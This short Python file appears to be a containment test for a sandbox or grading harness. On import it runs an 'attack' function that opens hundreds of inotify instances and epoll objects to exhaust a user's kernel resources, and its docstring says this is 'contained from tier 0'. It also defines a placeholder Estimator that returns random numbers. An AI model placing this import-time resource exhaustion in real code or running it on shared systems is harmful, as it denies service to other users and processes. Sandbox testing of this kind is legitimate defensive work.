"""Takes every inotify instance, timer and epoll that a user may have.

Contained from tier 0.
"""

import contextlib
import ctypes
import select


def attack():
    libc = ctypes.CDLL(None)
    for _ in range(300):
        libc.inotify_init()
    with contextlib.suppress(OSError):
        KEPT.extend(select.epoll() for _ in range(300))


KEPT = []
attack()


def Estimator(previous, observation, control, constants, rng):
    return rng.uniform(0.0, constants.L, (500, 6))
